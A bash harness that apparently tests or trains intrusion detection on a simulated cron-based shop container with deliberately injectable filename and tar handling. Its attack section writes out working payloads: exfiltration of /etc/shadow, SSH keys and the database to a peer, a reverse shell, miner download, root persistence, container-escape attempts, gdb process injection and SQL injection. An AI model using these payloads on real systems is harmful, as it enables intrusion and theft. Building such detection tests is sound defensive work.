# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# cron with the jobs of a small shop: orders from an inbox, a backup with tar, the rotation of logs, cleaning,
# prices from a peer, a report. Nothing is asked over the network: files come into a volume.
#
# cron starts jobs at the turn of a minute. A run begins shortly before one, so that each has at least
# one. The same jobs, and others, are run every five seconds by the image's own loop (cron/start) and
# run-parts.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=test containers=(cron) port=80 data_directory=/srv/data
train_seconds=600 # a job runs every one to three minutes
configuration_file=/etc/cron.d/shop
health=(/usr/bin/pgrep -x cron)
image_packages=(cron logrotate tar gzip curl sqlite3 coreutils findutils grep sed mawk dash bash
	debianutils diffutils procps bsdutils util-linux mount libpam-modules libpam-runtime base-files libc-bin
	netbase hostname tzdata)
rare_own=(new_job job_fails job_killed store_gone large_log database_locked disk_full)
# Nobody listens. The process beside cron is the loop, which no one starts again.
rare_not=(worker_killed malformed slow_clients)

image_prepare() {
	local tree=$1 name
	echo 'app:x:1000:1000:app,,,:/srv/app:/bin/sh' >>"$tree/etc/passwd"
	echo 'app:x:1000:' >>"$tree/etc/group"
	echo 'app:!:19000:0:99999:7:::' >>"$tree/etc/shadow"
	mkdir -p "$tree"/usr/local/{sbin,lib/jobs} "$tree"/etc/cron.{often,d,daily,hourly} "$tree/root/.ssh" \
		"$tree"/srv/{app,archive,backups,data,inbox,log,uploads} "$tree/var/spool/cron/crontabs"
	ln -s mawk "$tree/usr/bin/awk" # as update-alternatives does
	cp "$here/services/cron/start" "$tree/usr/local/sbin/"
	cp "$here"/services/cron/jobs/* "$tree/usr/local/lib/jobs/"
	for name in 10import 20fetch 30rotate 40clean 60report 70backup; do
		ln -s "/usr/local/lib/jobs/${name:2}" "$tree/etc/cron.often/$name"
	done
	cat >"$tree/etc/crontab" <<-'CRONTAB'
	SHELL=/bin/sh
	PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
	17 * * * * root cd / && run-parts --report /etc/cron.hourly
	25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
	CRONTAB
	cat >"$tree/etc/cron.d/shop" <<-'CRONTAB'
	SHELL=/bin/sh
	MAILTO=""
	PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
	@reboot root date >/srv/data/booted
	* * * * * root /usr/local/lib/jobs/vacuum
	* * * * * root /usr/local/lib/jobs/rotate
	*/2 * * * * root /usr/local/lib/jobs/clean && /usr/local/lib/jobs/report
	CRONTAB
	printf 'MAILTO=""\n* * * * * /usr/local/lib/jobs/statistics\n' >"$tree/var/spool/cron/crontabs/app"
	chmod 600 "$tree/var/spool/cron/crontabs/app"
	chown 1000:1000 "$tree/var/spool/cron/crontabs/app" "$tree/srv/app"
	cat >"$tree/etc/logrotate.conf" <<-'CONF'
	/srv/log/*.log {
	  size 3k
	  rotate 3
	  missingok
	  compress
	  delaycompress
	  create 640 root adm
	  sharedscripts
	  postrotate
	    date +%s >/srv/data/rotated
	  endscript
	}
	CONF
	chmod 644 "$tree/etc/logrotate.conf"
	touch "$tree/srv/backups/last" "$tree/srv/log/app.log"
	echo '{}' >"$tree/srv/data/prices.json"
	echo first >"$tree/srv/uploads/list0.txt"
	sqlite3 "$tree/srv/data/orders.db" 'create table orders (id integer, customer text, item text, price real);
		create index items on orders (item)'
	openssl genrsa 2048 >"$tree/root/.ssh/id_rsa" 2>/dev/null
	chmod -R go= "$tree/root"
}

container_fields() {
	arguments=(/usr/local/sbin/start)
	volumes=(/srv/data /srv/inbox /srv/uploads /srv/log /srv/backups)
	# As Docker gives them: cron's PAM modules write an audit record.
	capabilities+=(CAP_AUDIT_WRITE CAP_MKNOD)
}

# The store, and a start that is shortly before the turn of a minute.
peers() {
	local second=0
	app_peer_start store "$peer_address"
	while [ "$second" -lt 40 ] || [ "$second" -gt 50 ]; do
		sleep 1
		second=$(date +%-S)
	done
}

ready() {
	[ -s "$(volume_path cron /srv/data)/booted" ] && [ -s "$(volume_path cron /srv/data)/report.html" ]
}

# drop VOLUME NAME: a file comes into a volume whole; its text is standard input.
drop() {
	local dir
	dir=$(volume_path cron "$1")
	cat >"$dir.new"
	mv "$dir.new" "$dir/$2"
}

orders() {
	local i
	for ((i = 0; i < $1; i++)); do
		echo "$RANDOM,customer$(between 1 30),$(pick pen paper ink ruler book),$(between 1 90).5"
	done
}

request() {
	local n
	n=$(between 1 40)
	case $((RANDOM % 6)) in
	0 | 1) orders "$n" | drop /srv/inbox "orders$RANDOM.csv" ;;
	2) head -c "$((n * 1000))" /dev/urandom | drop /srv/uploads "picture$((n % 9)).jpg" ;;
	3)
		for ((; n > 0; n--)); do
			echo "$(date '+%F %T') $(pick login logout order order error) user$n" \
				>>"$(volume_path cron /srv/log)/app.log"
		done
		;;
	4) echo draft >"$(image_path cron /tmp/draft)$n.txt" ;;
	5) seq "$n" | drop /srv/uploads "list$((n % 5)).txt" ;;
	esac
	sleep "$(pick 0 1 2)"
}

# cron looks at its tables' times at the turn of a minute.
reload_service() {
	touch "$(image_path cron /etc/cron.d)" "$(image_path cron /etc/crontab)"
}

# Other hours of a job, another table of a user, an old archive thrown away.
administer() {
	local table
	table=$(image_path cron /etc/cron.d)/shop
	sed -i "s,^[*]/[0-9]*,*/$(between 2 3)," "$table"
	table=$(image_path cron /var/spool/cron/crontabs)/app
	printf 'MAILTO=""\n%s * * * * /usr/local/lib/jobs/statistics\n' "$(pick '*' '*/1')" >"$stage/app.table"
	cp "$stage/app.table" "$table"
	touch "$(dirname "$table")"
	reload_service
	find "$(volume_path cron /srv/backups)" -name 'uploads-*' | sort | head -n 1 | xargs -r rm -f
}

# ---- rare events ----

rare_new_job() {
	keep_file cron /etc/cron.d/disks
	keep_file cron /srv/data/disks
	echo '* * * * * root df -h >/srv/data/disks; uname -a >>/srv/data/disks' \
		>"$(image_path cron /etc/cron.d/disks)"
	sleep 62
}

# A job that does not exist, and orders that are none.
# The job runs at the next full minute.
rare_job_fails() {
	keep_file cron /etc/cron.d/shop
	keep_file cron /srv/inbox/broken.csv
	echo '* * * * * app /usr/local/lib/jobs/none' >>"$(image_path cron /etc/cron.d/shop)"
	head -c 5000 /dev/urandom | drop /srv/inbox broken.csv
	sleep 62
}

rare_job_killed() {
	local i pid
	for i in {1..60}; do
		pid=$(tasks_named cron 'cron.often/|lib/jobs/' | head -n 1)
		[ -z "$pid" ] || { kill -KILL "$pid" && break; }
		sleep 0.1
	done
}

rare_store_gone() {
	peer_stop store
	sleep 15
	app_peer_start store "$peer_address"
}

rare_large_log() {
	seq 2000000 >>"$(volume_path cron /srv/log)/app.log"
	sleep 15
}

rare_database_locked() {
	(
		echo 'begin exclusive;'
		sleep 10
	) | sqlite3 "$(volume_path cron /srv/data)/orders.db"
}

# The disk of the backups is full.
rare_disk_full() {
	local dir
	dir=$(volume_path cron /srv/backups)
	mv "$dir/all.tar" "$dir/all.old"
	ln -s /dev/full "$dir/all.tar"
	orders 3 | drop /srv/uploads list1.txt
	sleep 15
	rm "$dir/all.tar"
	mv "$dir/all.old" "$dir/all.tar"
}

# ---- attacks ----

# inbox_runs COMMANDS: by the name of a file of orders, which the import gives to a shell.
inbox_runs() {
	echo "$1" | drop /srv/inbox note.txt
	orders 1 | drop /srv/inbox 'x;sh note.txt;.csv'
}

# uploads_run COMMANDS: by names of uploads, which tar takes for options.
uploads_run() {
	echo "$1" | drop /srv/uploads picture.sh
	: | drop /srv/uploads '--checkpoint=1'
	: | drop /srv/uploads '--checkpoint-action=exec=sh picture.sh'
}

attack_command_injection() {
	harm read /etc/shadow
	harm connect "$peer_address:4444"
	thief_begin
	inbox_runs "curl -s --max-time 3 -T /etc/shadow http://$peer_address:4444/"
	thief_got '^root:'
}

# Keys and secrets of the machine, from inside the backup.
attack_wildcard() {
	harm read /root/.ssh/id_rsa
	harm write /srv/backups/all.txt
	uploads_run 'cat /root/.ssh/id_rsa /etc/shadow >/srv/backups/all.txt'
	until_true 20 grep -qs 'PRIVATE KEY' "$(volume_path cron /srv/backups)/all.txt"
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm exec /usr/bin/id
	thief_shell 'id; cat /etc/crontab; ls -la /root; exit'
	inbox_runs "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1'"
	thief_got 'uid=0'
}

attack_miner() {
	harm write /var/tmp/.kworker
	harm exec /var/tmp/.kworker
	harm connect "$peer_address:8081"
	harm connect "$peer_address:3333"
	armoury_begin
	uploads_run "$(miner_commands /var/tmp/.kworker)"
	pool_got
}

# A table of the attacker's own: its job fetches a miner each minute.
attack_job_planted() {
	harm write /etc/cron.d/zlib-update
	harm exec /tmp/.zlib
	harm connect "$peer_address:3333"
	armoury_begin
	inbox_runs "echo '* * * * * root $(miner_commands /tmp/.zlib)' >/etc/cron.d/zlib-update"
	until_true 90 grep -q login "$stage/peer-pool.log"
}

# A job's script is another: it does what it did, and sends the database to the thief.
attack_script_replaced() {
	harm write /usr/local/lib/jobs/fetch
	harm connect "$peer_address:4444"
	thief_begin
	inbox_runs "echo 'curl -s --max-time 2 -T /srv/data/orders.db http://$peer_address:4444/' \
>>/usr/local/lib/jobs/fetch"
	until_true 20 grep -aq 'SQLite format' "$stage/peer-thief.log"
}

# A user, a key and a shell that stay.
attack_persistence() {
	harm write /etc/passwd
	harm write /root/.ssh/authorized_keys
	harm chmod /var/tmp/.sh
	inbox_runs "echo 'ops:\$6\$a\$b:0:0::/root:/bin/sh' >>/etc/passwd
echo 'ssh-ed25519 AAAA thief' >>/root/.ssh/authorized_keys
cp /bin/dash /var/tmp/.sh; chmod 4755 /var/tmp/.sh"
	until_true 20 test -u "$(image_path cron /var/tmp/.sh)"
}

# A program that scans the network for other machines.
attack_scan() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:22"
	harm connect "$peer_address:5432"
	inbox_runs "bash -c 'for p in 21 22 25 80 443 3306 5432 6379 8000; do echo >/dev/tcp/$peer_address/\$p \
&& echo open \$p; done >/srv/data/ports 2>&1'"
	until_true 20 grep -qs 'open 8000' "$(volume_path cron /srv/data)/ports"
}

# Ways out of the container, each tried: a namespace with its mounts, a device, the host's settings.
attack_escape() {
	harm exec /usr/bin/unshare
	harm call mount
	harm mknod /var/tmp/disk
	uploads_run 'exec >/srv/data/escape 2>&1
unshare -Urm sh -c "mount -t tmpfs none /mnt; grep /mnt /proc/self/mounts"
mknod /var/tmp/disk b 8 0; head -c 512 /var/tmp/disk
echo "|/tmp/core" >/proc/sys/kernel/core_pattern; nsenter -t 1 -m true
echo 1 >/sys/fs/cgroup/cgroup.procs; mkdir /sys/fs/cgroup/out; echo tried'
	until_true 20 grep -qs tried "$(volume_path cron /srv/data)/escape"
	grep -q '^none /mnt' "$(volume_path cron /srv/data)/escape"
	[ -b "$(image_path cron /var/tmp/disk)" ]
}

# Code inside cron: it sends what it reads, and starts no program.
attack_code_connect() {
	harm read /root/.ssh/id_rsa
	harm connect "$peer_address:4444"
	thief_begin
	# shellcheck disable=SC2016 # of gdb
	inject_pid "${container_pid[cron]}" 'set $buffer = (char *) malloc(4096)' \
		'set $fd = (int) open("/root/.ssh/id_rsa", 0)' 'set $n = (long) read($fd, $buffer, 4096)' \
		'call (int) close($fd)' 'set $s = (int) socket(2, 1, 0)' 'set $address = (char *) calloc(1, 16)' \
		'set *(short *) $address = 2' 'set *(unsigned short *) ($address + 2) = (unsigned short) htons(4444)' \
		'set *(unsigned int *) ($address + 4) = (unsigned int) inet_addr("'"$peer_address"'")' \
		'print (long) syscall(42, $s, $address, 16)' 'print (long) write($s, $buffer, $n)' 'call (int) close($s)'
	thief_got 'PRIVATE KEY'
}

# ---- adaptive: known calls, files and peers only ----

# Orders that hold SQL: the import, which takes this file last, changes all prices.
adaptive_data_tampered() {
	harm write /srv/data/orders.db
	printf '1,thief,pen,0); update orders set price = (0\n' | drop /srv/inbox tomorrow.csv
	until_true 20 prices_are_gone
}

prices_are_gone() {
	[ "$(orders_count "customer = 'thief'")" -gt 0 ] && [ "$(orders_count 'price > 0')" = 0 ]
}

# orders_count CONDITION: of the orders that the database holds. It is asked seldom: who reads locks it.
orders_count() {
	sleep 1
	sqlite3 -readonly -cmd '.timeout 3000' "$(volume_path cron /srv/data)/orders.db" \
		"select count(*) from orders where $1"
}

# Names of uploads make tar follow links: the database goes to the store, where the attacker reads.
adaptive_backup_exfiltration() {
	local dir
	harm read /srv/data/orders.db
	dir=$(volume_path cron /srv/uploads)
	ln -s ../data/orders.db "$dir/picture0.jpg.new"
	mv "$dir/picture0.jpg.new" "$dir/picture0.jpg"
	: | drop /srv/uploads -h
	until_true 20 backup_holds_database
}

backup_holds_database() {
	local archive
	archive=$(find "$(volume_path cron /srv/backups)" -name 'uploads-*' | sort | tail -n 1)
	tar -xzOf "$archive" picture0.jpg 2>/dev/null | grep -ac "SQLite format"
}

# Orders whose SQL deletes all others: the next vacuum cleans away what is left of them.
adaptive_orders_deleted() {
	harm write /srv/data/orders.db
	orders 20 | drop /srv/inbox orders3.csv
	until_true 20 orders_are_there
	printf '1,thief,pen,0); delete from orders where (rowid > 0\n' | drop /srv/inbox tomorrow.csv
	until_true 20 orders_are_gone
}

orders_are_there() {
	[ "$(orders_count 1)" -ge 20 ]
}

orders_are_gone() {
	[ "$(orders_count 1)" = 0 ]
}
